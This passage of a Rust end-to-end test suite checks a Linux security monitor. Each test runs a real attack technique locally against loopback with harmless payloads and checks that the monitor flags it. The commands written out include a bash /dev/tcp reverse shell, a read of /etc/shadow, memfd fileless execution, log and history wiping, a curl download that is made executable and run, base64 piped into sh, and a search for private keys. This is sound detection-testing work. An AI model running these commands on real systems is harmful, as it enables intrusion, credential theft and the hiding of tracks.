//! The shipped rule pack against real activity: each test performs one attack technique for real
//! on this machine (loopback or a network namespace the test creates, files the test removes)
//! and expects the shared monitor to rate the event `suspicious` or `malicious` with the right
//! rule in `analysis.rules`; the benign workload tests expect nothing ordinary work does to be
//! rated at all.
//!
//! Chain rules (`dropped_file_executed`, `discovery_burst`) remember their marker hits on the
//! matching process **and its parent**. Every technique that can leave a marker (writing an
//! executable to a temp directory, a discovery command) therefore runs inside its own child
//! shell, never in the test process: a marker on the test process would reach every process the
//! other tests start, the benign workload included.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::io::{ErrorKind, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::common::{
    BIN, Checkpoint, DEFAULT_TIMEOUT, Instance, Monitor, TestDir, die_with_parent, marker, monitor,
    path_str, run, spawn, str_field, str_is, wait_child, workspace,
};

/// How long a child technique may take.
const CHILD_TIMEOUT: Duration = Duration::from_secs(20);
/// How long the benign workload (a compile, git, Python) may take.
const WORKLOAD_TIMEOUT: Duration = Duration::from_secs(120);

// ---------------------------------------------------------------------------------------------
// Helpers

/// Removes a file on drop, whether the test passed or not (for files outside a [`TestDir`]).
struct RemoveOnDrop(PathBuf);

impl Drop for RemoveOnDrop {
    fn drop(&mut self) {
        // Already gone when the technique itself deleted it.
        let _ = fs::remove_file(&self.0);
    }
}

/// Removes a dpkg package on drop, in case the workload that installs it failed half-way.
struct RemovePackage(String);

impl Drop for RemovePackage {
    fn drop(&mut self) {
        // "not installed" when the workload removed it itself: nothing to do.
        let _ = Command::new("dpkg")
            .args(["-r", &self.0])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
    }
}

fn severity(e: &Value) -> &str {
    e["analysis"]["severity"].as_str().unwrap_or("?")
}

fn rule_names(e: &Value) -> Vec<&str> {
    e["analysis"]["rules"]
        .as_array()
        .map(|rules| rules.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default()
}

fn has_rule(e: &Value, rule: &str) -> bool {
    rule_names(e).contains(&rule)
}

/// One event, its verdict first, for failure messages.
fn show(e: &Value) -> String {
    let a = &e["analysis"];
    format!(
        "  {} pid {} ppid {} process {:?} exe {:?} cmdline {:?}{}{}\n    analysis: severity {} risk {} rules {} label {:?}\n    event: {e}",
        e["event_type"].as_str().unwrap_or("?"),
        e["pid"],
        e["ppid"],
        e["process"].as_str().unwrap_or("?"),
        e["exe"].as_str().unwrap_or("?"),
        e["cmdline"].as_str().unwrap_or("?"),
        e.get("file_path")
            .map(|p| format!(" file_path {p}"))
            .unwrap_or_default(),
        e.get("target_port")
            .map(|p| format!(" target {}:{p}", e["target_ip"]))
            .unwrap_or_default(),
        severity(e),
        a["risk_score"],
        a["rules"],
        a["label"].as_str().unwrap_or("?"),
    )
}

/// Waits for the event of type `kind` that `pred` picks out (the technique's own event), then
/// asserts that it is rated `suspicious` or `malicious` and that `rule` is among its rules.
/// Several events may match `pred` (a shell that opens its redirection twice…): one of them
/// must carry the rule. Returns that event.
#[track_caller]
fn expect_rated(
    mon: &Monitor,
    cp: &Checkpoint,
    kind: &str,
    what: &str,
    rule: &str,
    pred: impl Fn(&Value) -> bool,
) -> Value {
    let first = mon.expect(cp, kind, what, &pred);
    let candidates = if has_rule(&first, rule) {
        vec![first]
    } else {
        // Let the rest of the technique's events arrive (it has run to its end: a sync point
        // orders them), then look at all of them. The predicates name pids or paths unique to
        // this test, so scanning from the start is safe.
        mon.sync_point(TestDir::new(&marker()).path());
        mon.events()
            .into_iter()
            .filter(|e| e["event_type"] == kind && pred(e))
            .collect()
    };
    let Some(e) = candidates.iter().find(|e| has_rule(e, rule)) else {
        let shown: Vec<String> = candidates.iter().map(show).collect();
        panic!(
            "{what}: expected rule `{rule}` in analysis.rules (rated suspicious or malicious), \
             but no matching {kind} event has it; the {} matching event(s):\n{}",
            candidates.len(),
            shown.join("\n")
        );
    };
    assert!(
        ["suspicious", "malicious"].contains(&severity(e)),
        "{what}: rule `{rule}` matched but the event is rated {:?}, not suspicious or malicious:\n{}",
        severity(e),
        show(e)
    );
    // The match is added to the process's accumulated risk, shown on the event itself.
    assert!(
        e["analysis"]["process_risk"]
            .as_f64()
            .is_some_and(|r| r > 0.0),
        "{what}: a rated event's process has accumulated risk:\n{}",
        show(e)
    );
    eprintln!(
        "rules_e2e: {what}: {} (risk {}) rules {:?}",
        severity(e),
        e["analysis"]["risk_score"],
        rule_names(e)
    );
    e.clone()
}

/// Spawns a command with no stdio (so it cannot leak secrets into the test output) that dies
/// with the test thread, and waits for it to succeed.
#[track_caller]
fn run_quiet(cmd: &mut Command) -> u32 {
    cmd.stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    die_with_parent(cmd);
    let mut child = spawn(cmd);
    let pid = child.id();
    let status = wait_child(&mut child, CHILD_TIMEOUT);
    assert!(status.success(), "{cmd:?} (pid {pid}) failed: {status}");
    pid
}

/// Runs a command (bounded) that must succeed; returns its pid and stdout.
#[track_caller]
fn run_ok(cmd: &mut Command) -> (u32, String) {
    let out = run(cmd, CHILD_TIMEOUT);
    assert!(
        out.status.success(),
        "{cmd:?} failed ({}); stderr:\n{}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    // The children below print their own pid first: with a pyenv-style shim in PATH the
    // interpreter is not the process the test spawned.
    let pid = stdout
        .lines()
        .next()
        .and_then(|l| l.trim().parse().ok())
        .unwrap_or_else(|| panic!("{cmd:?} should print its pid first, printed {stdout:?}"));
    (pid, stdout)
}

/// Creates a file with O_CREAT|O_EXCL (no O_TRUNC, so creating it is not itself "truncation").
fn create_new(path: &Path, mode: u32, contents: &[u8]) {
    let mut f = fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(mode)
        .open(path)
        .unwrap_or_else(|e| panic!("create {}: {e}", path.display()));
    f.write_all(contents)
        .unwrap_or_else(|e| panic!("write {}: {e}", path.display()));
}

// ---------------------------------------------------------------------------------------------
// Execution

/// `cp /bin/true DEST && DEST` in a child shell; returns the shell's pid.
fn drop_and_run(dest: &Path) -> u32 {
    run_quiet(
        Command::new("/bin/sh")
            .args(["-c", r#"cp /bin/true "$1" && "$1""#, "sh"])
            .arg(dest),
    )
}

/// A copy of /bin/true dropped into `dir` and run is rated by `rule`.
fn exec_from_is_rated(dir: &str, rule: &str) {
    let mon = monitor();
    let exe = PathBuf::from(format!("{dir}/{}", marker()));
    let _cleanup = RemoveOnDrop(exe.clone());
    let exe_s = path_str(&exe);

    let cp = mon.checkpoint();
    let sh = drop_and_run(&exe);
    expect_rated(
        mon,
        &cp,
        "process_exec",
        &format!("exec of a copied /bin/true from {exe_s}"),
        rule,
        |e| e["exe"] == exe_s.as_str() && (e["ppid"] == sh || e["pid"] == sh),
    );
}

#[test]
fn exec_from_dev_shm_is_rated() {
    exec_from_is_rated("/dev/shm", "exec_from_dev_shm");
}

/// Fileless execution: /bin/true copied into an anonymous memory file and executed from it,
/// both ways a loader does it. The child prints its pid first, then execs in place (same pid).
const MEMFD_SCRIPT: &str = r#"
import os, sys
print(os.getpid(), flush=True)
fd = os.memfd_create("payload", 0)
with open("/bin/true", "rb") as f:
    os.write(fd, f.read())
if sys.argv[1] == "proc":
    os.execv(f"/proc/self/fd/{fd}", ["payload"])
else:
    os.execve(fd, ["payload"], {})
"#;

#[test]
fn exec_from_memfd_is_rated() {
    let mon = monitor();
    for how in ["proc", "fexecve"] {
        let cp = mon.checkpoint();
        let (pid, _) = run_ok(Command::new("python3").args(["-c", MEMFD_SCRIPT, how]));
        expect_rated(
            mon,
            &cp,
            "process_exec",
            &format!("exec of a memfd ({how}), pid {pid}"),
            "exec_from_memfd",
            |e| e["pid"] == pid && e["cmdline"] == "payload",
        );
    }
}

#[test]
fn exec_from_tmp_root_is_rated() {
    exec_from_is_rated("/tmp", "exec_from_tmp_root");
}

// ---------------------------------------------------------------------------------------------
// Credential access, privilege escalation

#[test]
fn shadow_read_is_rated() {
    let mon = monitor();
    let cp = mon.checkpoint();
    // stdout is /dev/null: the hashes never reach the test output.
    let pid = run_quiet(Command::new("cat").arg("/etc/shadow"));
    expect_rated(
        mon,
        &cp,
        "file_open",
        &format!("`cat /etc/shadow` (pid {pid})"),
        "shadow_file_read",
        |e| e["pid"] == pid && e["file_path"] == "/etc/shadow",
    );
}

#[test]
fn setuid_chmod_is_rated() {
    let mon = monitor();
    let m = marker();
    let dir = TestDir::new(&m);
    let file = dir.join("payload");
    fs::write(&file, b"not a program\n").expect("create the file to chmod");
    let file_s = path_str(&file);

    let cp = mon.checkpoint();
    let pid = run_quiet(Command::new("chmod").arg("u+s").arg(&file));
    let e = expect_rated(
        mon,
        &cp,
        "file_chmod",
        &format!("`chmod u+s {file_s}` (pid {pid})"),
        "setuid_setgid_bit_set",
        |e| e["pid"] == pid && e["file_path"] == file_s.as_str(),
    );
    let mode = e["mode"].as_u64().unwrap_or(0);
    assert!(mode & 0o4000 != 0, "the chmod sets S_ISUID:\n{}", show(&e));
}

// ---------------------------------------------------------------------------------------------
// Command and control (loopback only)

#[test]
fn dev_tcp_reverse_shell_is_rated() {
    let mon = monitor();
    let home = TestDir::new(&marker());
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind a loopback listener");
    let port = listener.local_addr().expect("listener address").port();
    listener
        .set_nonblocking(true)
        .expect("make the listener non-blocking");

    let script = format!("bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
    let cp = mon.checkpoint();
    let mut cmd = Command::new("bash");
    cmd.args(["-c", &script])
        // A throw-away HOME and no history file: the interactive shell leaves nothing behind.
        .env("HOME", home.path())
        .env("HISTFILE", "")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    die_with_parent(&mut cmd);
    let mut child = spawn(&mut cmd);
    let pid = child.id();

    // Play the attacker's listener: take the connection, make the shell exit, close.
    let deadline = Instant::now() + DEFAULT_TIMEOUT;
    let mut conn: TcpStream = loop {
        match listener.accept() {
            Ok((conn, _)) => break conn,
            Err(e) if e.kind() == ErrorKind::WouldBlock && Instant::now() < deadline => {
                if let Ok(Some(status)) = child.try_wait() {
                    panic!("the reverse shell (pid {pid}) exited ({status}) before connecting");
                }
                thread::sleep(Duration::from_millis(20));
            }
            Err(e) => {
                let _ = child.kill();
                let _ = child.wait();
                panic!("the reverse shell (pid {pid}) did not connect to 127.0.0.1:{port}: {e}");
            }
        }
    };
    conn.set_nonblocking(false).expect("blocking connection");
    conn.set_read_timeout(Some(Duration::from_secs(5)))
        .expect("set a read timeout");
    conn.write_all(b"exit\n").expect("tell the shell to exit");
    let mut rest = Vec::new();
    // The shell's prompt and job-control warnings, then EOF; a timeout only means it lingers.
    let _ = conn.read_to_end(&mut rest);
    drop(conn);
    drop(listener);
    wait_child(&mut child, CHILD_TIMEOUT);

    expect_rated(
        mon,
        &cp,
        "process_exec",
        &format!("`bash -c '{script}'` (pid {pid})"),
        "reverse_shell_dev_tcp",
        |e| e["pid"] == pid && str_is(e, "cmdline", |c| c.contains("/dev/tcp/")),
    );
    expect_rated(
        mon,
        &cp,
        "net_connect",
        &format!("the reverse shell's connect to 127.0.0.1:{port}"),
        "shell_network_connection",
        |e| e["target_port"] == port && e["target_ip"] == "127.0.0.1",
    );
}

/// A connection to a miner/C2 port, inside a network namespace of its own (`unshare -n`). The
/// rule leaves the host's loopback out, so the listener gets a non-loopback address
/// (10.123.45.1 on the namespace's `lo`) that exists only in there. The child prints its pid
/// first, then listens on ADDR:4444, connects and accepts.
const C2_SCRIPT: &str = r#"
import os, socket, subprocess, sys
addr = sys.argv[1]
print(os.getpid(), flush=True)
subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
if not addr.startswith("127."):
    subprocess.run(["ip", "addr", "add", addr + "/32", "dev", "lo"], check=True)
listener = socket.create_server((addr, 4444))
client = socket.create_connection((addr, 4444), timeout=5)
conn, _ = listener.accept()
for s in (conn, client, listener):
    s.close()
"#;

/// Runs [`C2_SCRIPT`] in a new network namespace; returns the pid that connected.
fn connect_to_port_4444(addr: &str) -> u32 {
    run_ok(Command::new("unshare").args(["-n", "python3", "-c", C2_SCRIPT, addr])).0
}

#[test]
fn c2_port_connection_is_rated() {
    let mon = monitor();
    let cp = mon.checkpoint();
    let pid = connect_to_port_4444("10.123.45.1");
    expect_rated(
        mon,
        &cp,
        "net_connect",
        &format!("python3 (pid {pid}) connecting to 10.123.45.1:4444 in its own netns"),
        "suspicious_port_connection",
        |e| e["pid"] == pid && e["target_port"] == 4444 && e["target_ip"] == "10.123.45.1",
    );
}

/// The same port on loopback (a local test grid, a tunnel) is not rated.
#[test]
fn c2_port_on_loopback_is_not_rated() {
    let mon = monitor();
    let cp = mon.checkpoint();
    let pid = connect_to_port_4444("127.0.0.1");
    let e = mon.expect(
        &cp,
        "net_connect",
        &format!("python3 (pid {pid}) connecting to 127.0.0.1:4444"),
        |e| e["pid"] == pid && e["target_port"] == 4444,
    );
    assert!(
        !has_rule(&e, "suspicious_port_connection"),
        "a loopback connection is left out:\n{}",
        show(&e)
    );
}

// ---------------------------------------------------------------------------------------------
// Defence evasion

#[test]
fn log_truncation_and_deletion_are_rated() {
    let mon = monitor();
    let log = PathBuf::from(format!("/var/log/{}.log", marker()));
    let _cleanup = RemoveOnDrop(log.clone());
    let log_s = path_str(&log);
    create_new(
        &log,
        0o640,
        b"Nov 23 00:00:00 host sshd[1]: Accepted password for root\n",
    );

    let cp = mon.checkpoint();
    let sh = run_quiet(
        Command::new("/bin/sh")
            .args(["-c", r#": > "$1""#, "sh"])
            .arg(&log),
    );
    expect_rated(
        mon,
        &cp,
        "file_write",
        &format!("`: > {log_s}` (sh pid {sh})"),
        "log_file_cleared",
        |e| e["pid"] == sh && e["file_path"] == log_s.as_str(),
    );

    let cp = mon.checkpoint();
    let rm = run_quiet(Command::new("rm").arg("-f").arg(&log));
    expect_rated(
        mon,
        &cp,
        "file_delete",
        &format!("`rm -f {log_s}` (pid {rm})"),
        "log_file_cleared",
        |e| e["pid"] == rm && e["file_path"] == log_s.as_str(),
    );
}

#[test]
fn history_truncation_is_rated() {
    let mon = monitor();
    let home = TestDir::new(&marker());
    let history = home.join(".bash_history");
    let history_s = path_str(&history);
    create_new(&history, 0o600, b"ls\nssh root@10.0.0.1\n");

    let cp = mon.checkpoint();
    let sh = run_quiet(
        Command::new("/bin/sh")
            .args(["-c", r#"cat /dev/null > "$HOME/.bash_history""#])
            .env("HOME", home.path()),
    );
    expect_rated(
        mon,
        &cp,
        "file_write",
        &format!("`cat /dev/null > {history_s}` (sh pid {sh})"),
        "shell_history_tampering",
        |e| e["pid"] == sh && e["file_path"] == history_s.as_str(),
    );
    assert_eq!(
        fs::metadata(&history).expect("the history file").len(),
        0,
        "the history was truncated"
    );
}

#[test]
fn hidden_file_in_dev_shm_is_rated() {
    let mon = monitor();
    let hidden = PathBuf::from(format!("/dev/shm/.{}", marker()));
    let _cleanup = RemoveOnDrop(hidden.clone());
    let hidden_s = path_str(&hidden);

    let cp = mon.checkpoint();
    let pid = run_quiet(Command::new("touch").arg(&hidden));
    expect_rated(
        mon,
        &cp,
        "file_write",
        &format!("`touch {hidden_s}` (pid {pid})"),
        "hidden_file_in_temp_dir",
        |e| e["pid"] == pid && e["file_path"] == hidden_s.as_str(),
    );
}

/// PTRACE_ATTACH from Python (not a debugger) to a `sleep` it started, then detach and kill.
const PTRACE_SCRIPT: &str = r#"
import ctypes, os, subprocess, sys
print(os.getpid(), flush=True)
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
target = subprocess.Popen(["sleep", "60"])
try:
    if libc.ptrace(16, target.pid, None, None) != 0:  # PTRACE_ATTACH
        sys.exit("PTRACE_ATTACH: " + os.strerror(ctypes.get_errno()))
    os.waitpid(target.pid, 0x40000000)  # __WALL: the attach stop
    libc.ptrace(17, target.pid, None, None)  # PTRACE_DETACH
    print(target.pid, flush=True)
finally:
    target.kill()
    target.wait()
"#;

#[test]
fn ptrace_attach_by_non_debugger_is_rated() {
    let mon = monitor();
    let cp = mon.checkpoint();
    let (pid, out) = run_ok(Command::new("python3").args(["-c", PTRACE_SCRIPT]));
    let target: u32 = out
        .lines()
        .nth(1)
        .and_then(|l| l.trim().parse().ok())
        .unwrap_or_else(|| panic!("the script prints the traced pid second, printed {out:?}"));
    expect_rated(
        mon,
        &cp,
        "ptrace",
        &format!("PTRACE_ATTACH by python3 (pid {pid}) to sleep (pid {target})"),
        "ptrace_attach_unexpected",
        |e| e["pid"] == pid && e["ptrace_request"] == "PTRACE_ATTACH" && e["target_pid"] == target,
    );
}

// ---------------------------------------------------------------------------------------------
// Persistence

#[test]
fn bashrc_write_is_rated() {
    let mon = monitor();
    let home = TestDir::new(&marker());
    let rc = home.join(".bashrc");
    let rc_s = path_str(&rc);

    let cp = mon.checkpoint();
    let sh = run_quiet(
        Command::new("/bin/sh")
            .args(["-c", r#"echo 'alias sudo="sudo -E"' >> "$HOME/.bashrc""#])
            .env("HOME", home.path()),
    );
    expect_rated(
        mon,
        &cp,
        "file_write",
        &format!("`echo … >> {rc_s}` (sh pid {sh})"),
        "shell_profile_modified",
        |e| e["pid"] == sh && e["file_path"] == rc_s.as_str(),
    );
}

// ---------------------------------------------------------------------------------------------
// Discovery

#[test]
fn discovery_burst_is_rated() {
    let mon = monitor();
    let cp = mon.checkpoint();
    let sh = run_quiet(Command::new("/bin/sh").args(["-c", "id; whoami; uname -a; hostname"]));
    // The first two commands only leave markers (whoami after id is what an administrator does
    // after logging in); the third and later are the burst. dash runs the last command of `-c`
    // in the shell's own process.
    for name in ["uname", "hostname"] {
        expect_rated(
            mon,
            &cp,
            "process_exec",
            &format!("`{name}` (in `sh -c 'id; whoami; uname -a; hostname'`, sh pid {sh})"),
            "discovery_burst",
            |e| e["process"] == name && (e["ppid"] == sh || e["pid"] == sh),
        );
    }
    let second = mon.expect(&cp, "process_exec", "`whoami` (the second command)", |e| {
        e["process"] == "whoami" && e["ppid"] == sh
    });
    assert!(
        !has_rule(&second, "discovery_burst"),
        "two commands are not a burst:\n{}",
        show(&second)
    );
}

// ---------------------------------------------------------------------------------------------
// Coverage beyond the first pack: anti-analysis, masquerading, secrets, downloads

/// PTRACE_TRACEME from Python, the anti-debugging trick: the process makes its parent (this
/// test) its tracer so that no debugger can attach. It then exits; nothing else stops it.
const TRACEME_SCRIPT: &str = r#"
import ctypes, os, sys
print(os.getpid(), flush=True)
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
if libc.ptrace(0, 0, None, None) != 0:  # PTRACE_TRACEME
    sys.exit("PTRACE_TRACEME: " + os.strerror(ctypes.get_errno()))
"#;

#[test]
fn ptrace_traceme_is_reported_by_name_and_rated() {
    let mon = monitor();
    let cp = mon.checkpoint();
    let (pid, _) = run_ok(Command::new("python3").args(["-c", TRACEME_SCRIPT]));
    expect_rated(
        mon,
        &cp,
        "ptrace",
        &format!("PTRACE_TRACEME by python3 (pid {pid})"),
        "ptrace_traceme_anti_debug",
        |e| e["pid"] == pid && e["ptrace_request"] == "PTRACE_TRACEME",
    );
}

/// A process renames itself to a kernel thread's name with prctl(PR_SET_NAME) after exec, then
/// opens a file and starts a child: the open carries the new name and is rated, and the child's
/// `parent_process` is the new name too.
const RENAME_SCRIPT: &str = r#"
import ctypes, os, subprocess, sys
print(os.getpid(), flush=True)
libc = ctypes.CDLL(None, use_errno=True)
if libc.prctl(15, b"kworker/0:7", 0, 0, 0) != 0:  # PR_SET_NAME
    sys.exit("PR_SET_NAME: " + os.strerror(ctypes.get_errno()))
with open(sys.argv[1], "rb") as f:
    f.read()
# A child started after the rename sees the new name as its parent's.
subprocess.run(["/bin/true"], check=True)
"#;

#[test]
fn process_renamed_to_a_kernel_thread_is_rated() {
    let mon = monitor();
    let dir = TestDir::new(&marker());
    let target = dir.join("read-me");
    fs::write(&target, b"x").expect("write the file to read");
    let target_s = path_str(&target);
    let cp = mon.checkpoint();
    let (pid, _) = run_ok(Command::new("python3").args(["-c", RENAME_SCRIPT, &target_s]));
    let e = expect_rated(
        mon,
        &cp,
        "file_open",
        &format!("python3 (pid {pid}) renamed to kworker/0:7 opening {target_s}"),
        "kernel_thread_name_masquerade",
        |e| e["pid"] == pid && e["file_path"] == target_s.as_str(),
    );
    assert_eq!(
        e["process"], "kworker/0:7",
        "the event carries the new name"
    );
    // The process table followed the rename: the child's ancestry shows the new name.
    let child = mon.expect(
        &cp,
        "process_exec",
        &format!("/bin/true started by the renamed pid {pid}"),
        |e| e["ppid"] == pid && e["exe"] == "/bin/true",
    );
    assert_eq!(
        child["parent_process"], "kworker/0:7",
        "the child's parent_process is the renamed name: {child}"
    );
}

#[test]
fn search_for_private_keys_is_rated() {
    let mon = monitor();
    let dir = TestDir::new(&marker());
    let cp = mon.checkpoint();
    // grep finds nothing in the empty directory and exits 1: only its exec matters.
    let mut grep = Command::new("grep");
    grep.args(["-r", "BEGIN OPENSSH PRIVATE KEY"])
        .arg(dir.path());
    let mut child = spawn(grep.stdout(Stdio::null()).stderr(Stdio::null()));
    let pid = child.id();
    wait_child(&mut child, CHILD_TIMEOUT);
    expect_rated(
        mon,
        &cp,
        "process_exec",
        &format!("grep -r for a private key header (pid {pid})"),
        "credential_search_command",
        |e| e["pid"] == pid,
    );
}

/// Serves one HTTP response holding a shell script on a loopback port; returns the URL.
fn serve_one_script(script: &'static str) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind a loopback port");
    let addr = listener.local_addr().expect("the listener's address");
    thread::spawn(move || {
        if let Ok((mut stream, _)) = listener.accept() {
            let mut request = [0u8; 4096];
            let _ = stream.read(&mut request);
            let response = format!(
                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{script}",
                script.len()
            );
            let _ = stream.write_all(response.as_bytes());
        }
    });
    format!("http://{addr}/payload")
}

/// `curl -o payload URL; chmod +x payload; ./payload` in one child shell, from a loopback server.
#[test]
fn download_made_executable_and_run_is_rated() {
    let mon = monitor();
    let dir = TestDir::new(&marker());
    let url = serve_one_script("#!/bin/sh\nexit 0\n");
    let payload = path_str(&dir.join("payload"));
    let cp = mon.checkpoint();
    let sh = run_quiet(
        Command::new("/bin/sh")
            .args([
                "-c",
                r#"cd "$1" && curl -fsS -o payload "$2" && chmod +x payload && ./payload"#,
                "sh",
            ])
            .arg(dir.path())
            .arg(&url),
    );
    expect_rated(
        mon,
        &cp,
        "process_exec",
        &format!("the downloaded {payload} run by sh (pid {sh})"),
        "downloaded_file_executed",
        |e| e["exe"] == payload.as_str() && e["ppid"] == sh,
    );
}

#[test]
fn decoded_payload_piped_into_a_shell_is_rated() {
    let mon = monitor();
    let cp = mon.checkpoint();
    // "exit 0", base64-encoded.
    let sh = run_quiet(Command::new("/bin/sh").args(["-c", "echo ZXhpdCAw | base64 -d | sh"]));
    expect_rated(
        mon,
        &cp,
        "process_exec",
        &format!("sh -c 'echo … | base64 -d | sh' (pid {sh})"),
        "encoded_payload_to_shell",
        |e| e["pid"] == sh && e["process"] == "sh",
    );
}

// ---------------------------------------------------------------------------------------------
// Normal activity stays quiet

/// Ordinary developer and admin work: write and compile a C program and run it, a git
/// repository with a commit, a Python script, a bash here-document, reading /etc, a shell using
/// a scratch file from `mktemp` (what the seed heuristic rates suspicious), make, strace of
/// one's own program, a Python venv, an SSH key for a project, vim editing a file, and a
/// package (a program in /usr/bin, a maintainer script) installed and removed with dpkg.
/// Compiling and running a program inside /tmp is left out here: see
/// [`run_benign_workload`].
const BENIGN_SCRIPT: &str = r#"set -eu
cd "$WORK"
cat > hello.c <<'EOF'
#include <stdio.h>
int main(void) { puts("hello, secmon"); return 0; }
EOF
cc -O2 -Wall -o hello hello.c
./hello
git init -q repo
cd repo
git config user.name "Secmon Test"
git config user.email "secmon-test@example.invalid"
cp ../hello.c .
git add hello.c
git commit -q -m "Add hello"
git log --oneline
cd ..
cat > script.py <<'EOF'
import hashlib, json, os, subprocess, tempfile
listing = sorted(os.listdir("."))
with tempfile.TemporaryDirectory() as d:
    path = os.path.join(d, "listing.json")
    with open(path, "w") as f:
        json.dump(listing, f)
    with open(path, "rb") as f:
        print(hashlib.sha256(f.read()).hexdigest())
print(subprocess.run(["git", "-C", "repo", "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip())
EOF
python3 script.py
bash -c 'n=$(wc -l <<EOF
one
two
EOF
); echo "$n lines"'
ls -la /etc
cat /etc/passwd
grep -r root /etc/passwd /etc/group
tmp=$(mktemp)
sort /etc/passwd > "$tmp"
wc -l < "$tmp"
rm -f "$tmp"
printf 'all: prog\nprog: prog.c\n\tcc -o prog prog.c\n' > Makefile
printf 'int main(void) { return 0; }\n' > prog.c
make -s
strace -f -o /dev/null ./prog
python3 -m venv --without-pip venv
./venv/bin/python -c 'print("venv ok")'
ssh-keygen -q -t ed25519 -N '' -C deploy -f "$WORK/deploy_key"
printf 'alpha\nbeta\n' > notes.txt
vim -N -u NONE -i NONE -es -c '%s/alpha/gamma/' -c 'wq' notes.txt
grep -q gamma notes.txt
# A package installed and removed with dpkg: files under /usr/bin, maintainer scripts.
mkdir -p pkg/DEBIAN pkg/usr/bin
printf 'Package: %s\nVersion: 1.0\nArchitecture: all\nMaintainer: secmon tests <t@example.invalid>\nDescription: secmon benign workload\n' "$PKG" > pkg/DEBIAN/control
printf '#!/bin/sh\nexit 0\n' > pkg/DEBIAN/postinst
printf '#!/bin/sh\necho "package ok"\n' > "pkg/usr/bin/$PKG"
chmod 755 pkg/DEBIAN/postinst "pkg/usr/bin/$PKG"
dpkg-deb -b pkg pkg.deb > /dev/null
dpkg -i pkg.deb > /dev/null
"$PKG"
# ...upgraded to version 2.0 in place, then removed.
sed -i 's/^Version: 1.0$/Version: 2.0/' pkg/DEBIAN/control
dpkg-deb -b pkg pkg2.deb > /dev/null
dpkg -i pkg2.deb > /dev/null
echo "version $(dpkg-query -W -f='${Version}' "$PKG")"
dpkg -r "$PKG" > /dev/null
# Backups: an archive, a restore, a copy that keeps modes and times.
tar czf backup.tgz repo notes.txt
mkdir restore
tar xzf backup.tgz -C restore
cp -a repo repo.mirror
# Log rotation as logrotate's copytruncate does it.
printf 'request 1\nrequest 2\n' > app.log
cp app.log app.log.1
: > app.log
gzip -f app.log.1
# git: clone, branch, commit, merge.
git clone -q repo clone
cd clone
git config user.name "Secmon Test"
git config user.email "secmon-test@example.invalid"
git checkout -q -b feature
echo '/* more */' >> hello.c
git commit -qam "More"
git checkout -q -
git merge -q feature
cd ..
# Python packaging: a wheel installed into a virtualenv with pip (offline), used, removed.
python3 - <<'PY'
import zipfile
d = "benignpkg-1.0.dist-info"
files = {
    "benignpkg/__init__.py": 'def hello():\n    return "pip ok"\n',
    f"{d}/METADATA": "Metadata-Version: 2.1\nName: benignpkg\nVersion: 1.0\n",
    f"{d}/WHEEL": "Wheel-Version: 1.0\nGenerator: secmon-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
files[f"{d}/RECORD"] = "".join(f"{name},,\n" for name in files) + f"{d}/RECORD,,\n"
with zipfile.ZipFile("benignpkg-1.0-py3-none-any.whl", "w") as z:
    for name, text in files.items():
        z.writestr(name, text)
PY
python3 -m venv pipvenv
./pipvenv/bin/python -m pip install -q --no-index benignpkg-1.0-py3-none-any.whl
./pipvenv/bin/python -c 'import benignpkg; print(benignpkg.hello())'
./pipvenv/bin/python -m pip uninstall -q -y benignpkg
# npm: a local package installed offline into a project, then required.
mkdir -p npkg app
printf '{"name":"benign-npm","version":"1.0.0","main":"index.js"}\n' > npkg/package.json
echo 'module.exports = () => "npm ok";' > npkg/index.js
printf '{"name":"app","version":"1.0.0","private":true}\n' > app/package.json
(cd app && npm install --offline --no-audit --no-fund ../npkg > /dev/null && node -e 'console.log(require("benign-npm")())')
# cargo: a new crate built offline and run.
cargo new -q --vcs none hello_rs
(cd hello_rs && CARGO_TARGET_DIR="$WORK/hello_rs/target" cargo build -q --offline && ./target/debug/hello_rs)
# Process listings.
ps aux > /dev/null
ps e -p $$ > /dev/null
# SSH: a login running a command, an interactive login shell on a terminal, and scp, to an
# sshd of our own on a loopback port (host key, config and authorized key in $WORK). It runs in
# a mount namespace of its own: /run and /var/log are empty tmpfs there (its privilege
# separation directory, utmp, wtmp, lastlog), /etc/passwd is a copy with its privilege
# separation user, and /usr/local/sbin is the directory where `cargo xtask setup` unpacked
# Debian's sshd and sftp-server (so they run from a system path, as an installed sshd does).
# The machine's files are not touched.
mkdir -p ssh
ssh-keygen -q -t ed25519 -N '' -f ssh/host_key
ssh-keygen -q -t ed25519 -N '' -f ssh/id
cp ssh/id.pub ssh/authorized_keys
cp /etc/passwd ssh/passwd
grep -q '^sshd:' ssh/passwd || echo 'sshd:x:65533:65534:sshd privsep:/run/sshd:/usr/sbin/nologin' >> ssh/passwd
port=$(python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
cat > ssh/sshd_config <<EOF
Port $port
ListenAddress 127.0.0.1
HostKey $WORK/ssh/host_key
AuthorizedKeysFile $WORK/ssh/authorized_keys
PidFile $WORK/ssh/sshd.pid
PermitRootLogin prohibit-password
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
